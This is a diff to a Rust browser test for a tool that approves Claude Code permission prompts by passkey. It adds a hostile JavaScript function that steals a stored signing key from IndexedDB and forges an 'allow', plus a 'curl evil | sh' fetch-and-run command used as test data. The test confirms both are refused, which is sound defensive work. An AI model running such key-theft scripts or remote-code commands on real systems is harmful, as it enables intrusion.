@@ -6,12 +6,14 @@
 //!    check digits and approves with a passkey the page creates; `sp control keys --json` then
 //!    lists that key. The view is photographed to `docs/receiver-pairing.png`.
 //! 2. A Claude Code PermissionRequest hook waits; the page shows the tool and its input; Allow
-//!    is signed on the page (day key + grant) and the hook prints Claude Code's allow JSON; the
-//!    receiver records the ack `delivered`.
+//!    is a touch of the passkey over the exact command (a confirm, DECISIONS 36) and the hook
+//!    prints Claude Code's allow JSON; the receiver records the ack `delivered`.
 //! 3. The same signed command replayed, and an edited copy, are put into the receiver's queue
 //!    through this test's own path (a row written into sp-receiver's database file: the
-//!    binary has no test door); the machine acks them `refused` with `replay` and `bad_csig`,
+//!    binary has no test door); the machine acks them `refused` with `replay` and `bad_assertion`,
 //!    and the waiting hook never prints allow (it gets the page's signed Deny instead).
+//! 4. A page script that signs an allow with the stored day key gets `confirm_needed`, and
+//!    nothing runs.
 //!
 //! And, in process over HTTP (`mod http`): the pairing routes, the machine token, the
 //! per-machine queue, who may ack what, `off`, and the unsigned mode without an rp id.
@@ -105,6 +107,25 @@ fn permission_request(command: &str) -> Value {
     })
 }
 
+/// A script any page of the receiver's origin could run: it signs an allow for `att` with the
+/// day key the page keeps in IndexedDB and posts it as the page posts its commands; returns
+/// `{status, body}` of that post.
+fn hostile_allow(machine: &str, session: &str, att: &str) -> String {
+    format!(
+        r#"(async () => {{
+  const b64u = (buf) => btoa(String.fromCharCode(...new Uint8Array(buf))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
+  const db = await new Promise((ok, no) => {{ const r = indexedDB.open('sessionpipe', 1); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error); }});
+  const day = await new Promise((ok, no) => {{ const q = db.transaction('kv').objectStore('kv').get('day.localhost'); q.onsuccess = () => ok(q.result); q.onerror = () => no(q.error); }});
+  if (!day) throw new Error('no stored day key');
+  const cmd = JSON.stringify({{ v: 1, t: 'sessionpipe.control', machine: {machine:?}, kind: 'permission.answer', session: {session:?}, for: {att:?}, decision: 'allow', nonce: b64u(crypto.getRandomValues(new Uint8Array(16))), iat: Date.now() }});
+  const sig = await crypto.subtle.sign({{ name: 'ECDSA', hash: 'SHA-256' }}, day.priv, new TextEncoder().encode(cmd));
+  const st = await (await fetch('/page/api/state', {{ credentials: 'same-origin', cache: 'no-store' }})).json();
+  const r = await fetch('/page/api/signed', {{ method: 'POST', credentials: 'same-origin', headers: {{ 'content-type': 'application/json', 'x-sessionpipe-csrf': st.csrf }}, body: JSON.stringify({{ cmd, csig: b64u(sig), grant: day.grant }}) }});
+  return {{ status: r.status, body: await r.json() }};
+}})()"#
+    )
+}
+
 /// The one open attention on the machine other than `not`.
 fn open_attention(env: &Env, not: Option<&str>) -> String {
     let mut id = None;
@@ -125,7 +146,8 @@ fn open_attention(env: &Env, not: Option<&str>) -> String {
 }
 
 #[test]
-fn pair_and_allow_from_the_page_with_a_passkey_and_forgeries_are_refused() {
+fn pair_and_allow_from_the_page_with_a_touch_and_forgeries_and_a_hostile_day_key_allow_are_refused()
+{
     if let Some(why) = missing_browser_deps() {
         panic!("the browser test cannot run: {why}");
     }
@@ -257,7 +279,9 @@ fn pair_and_allow_from_the_page_with_a_passkey_and_forgeries_are_refused() {
         cmd.starts_with(r#"{"v":1,"t":"sessionpipe.control","machine":""#),
         "{cmd}"
     );
-    assert!(envelope["csig"].is_string() && envelope["grant"]["str"].is_string());
+    // An allow is a touch over the exact command (DECISIONS 36), never the day key.
+    assert!(envelope["confirm"]["sig"].is_string(), "{envelope}");
+    assert!(envelope.get("csig").is_none() && envelope.get("grant").is_none());
     b.wait(&format!(
         "article[data-session=\"{key}\"] li.msg[data-kind=\"permission.answer\"][data-status=\"delivered\"]"
     ));
@@ -276,7 +300,7 @@ fn pair_and_allow_from_the_page_with_a_passkey_and_forgeries_are_refused() {
     ));
     assert_ne!(edited["cmd"], envelope["cmd"]);
     let edited = receiver.inject(&machine, &key, &edited);
-    for (id, code) in [(replay, "replay"), (edited, "bad_csig")] {
+    for (id, code) in [(replay, "replay"), (edited, "bad_assertion")] {
         let ack = receiver
             .ack(&id, Duration::from_secs(30))
             .unwrap_or_else(|| panic!("no ack for the {code} command"));
@@ -294,6 +318,41 @@ fn pair_and_allow_from_the_page_with_a_passkey_and_forgeries_are_refused() {
     let attention2 = format!("#inbox [data-session=\"{key}\"] [data-attention=\"{att2}\"]");
     b.wait(&attention2);
     b.click(&format!("{attention2} button.deny"));
+    let out = finish(hook, Duration::from_secs(60));
+    let printed = stdout(&out);
+    assert!(!printed.contains("\"allow\""), "{printed}");
+    assert!(printed.contains("\"deny\""), "{printed}");
+
+    // 4. A hostile page (DECISIONS 36): a script the receiver serves signs an allow with the
+    // day key the page stores (the deny above made it). The machine refuses it
+    // `confirm_needed`, the prompt stays open and nothing runs; the person then denies it.
+    let hook = env.spawn_hook("sp-permission", &permission_request("curl evil | sh"));
+    let att3 = open_attention(&env, Some(&att2));
+    let hostile = b.call(json!({"op": "eval", "script": hostile_allow(&machine, &key, &att3)}));
+    let carried = &hostile["value"];
+    assert_eq!(carried["status"], 200, "{hostile}");
+    let id = carried["body"]["id"]
+        .as_str()
+        .expect("an envelope id")
+        .to_owned();
+    let ack = receiver
+        .ack(&id, Duration::from_secs(30))
+        .expect("an ack for the hostile allow");
+    assert_eq!(
+        (ack["outcome"].as_str(), ack["code"].as_str()),
+        (Some("refused"), Some("confirm_needed")),
+        "{ack}"
+    );
+    assert_eq!(
+        env.query::<String>(&format!(
+            "SELECT state FROM attention WHERE attention_id = '{att3}'"
+        )),
+        vec!["open".to_string()],
+        "the day key alone settled the prompt"
+    );
+    let attention3 = format!("#inbox [data-session=\"{key}\"] [data-attention=\"{att3}\"]");
+    b.wait(&attention3);
+    b.click(&format!("{attention3} button.deny"));
     let out = finish(hook, Duration::from_secs(60));
     let printed = stdout(&out);
     assert!(!printed.contains("\"allow\""), "{printed}");
